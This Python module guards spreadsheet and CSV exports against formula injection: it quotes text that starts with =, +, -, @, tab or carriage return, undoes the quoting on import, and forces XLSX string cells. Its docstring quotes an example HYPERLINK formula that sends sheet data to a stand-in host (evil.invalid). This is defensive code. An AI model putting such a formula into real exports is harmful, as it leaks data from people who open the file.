"""Text written into a spreadsheet or a CSV file never becomes a formula.

Excel and WPS read a cell that starts with =, +, -, @, a tab or a carriage return as a formula
(OWASP "CSV injection"): a name like =HYPERLINK("http://evil.invalid/?x="&A1,"点击") sends
the sheet's contents away when a staff member clicks it. Every export writes text through
here: in XLSX as a string cell, never a formula; in CSV with a leading ', which `csv_unescape`
(called by `csvfile.rows`) takes off again on import. Numbers the product computed are not
text and are left alone, so they stay numbers.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import Cell, WriteOnlyCell

STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def is_formula_like(text: str) -> bool:
    """True for text a spreadsheet would read as a formula, also behind our own quotes: a value
    that already starts with ' before such a character is quoted again, so that unescaping
    gives back exactly what was written."""
    return text.lstrip(QUOTE).startswith(STARTS)


def csv_escape(value: Any) -> Any:
    """The value for a CSV cell: formula-like text with a leading ', anything else as it is."""
    if isinstance(value, str) and is_formula_like(value):
        return QUOTE + value
    return value


def csv_unescape(text: str) -> str:
    """The inverse of `csv_escape` for a cell read from a CSV file."""
    if text.startswith(QUOTE) and is_formula_like(text):
        return text[1:]
    return text


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """The row for `sheet.append` (normal or write-only sheet): text as string cells."""
    return [_text_cell(sheet, value) if isinstance(value, str) else value for value in values]


def xlsx_set(cell: Cell, value: Any) -> None:
    """Puts `value` into `cell`; text stays text whatever it starts with."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"


def _text_cell(sheet: Any, value: str) -> Cell:
    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"
    return cell
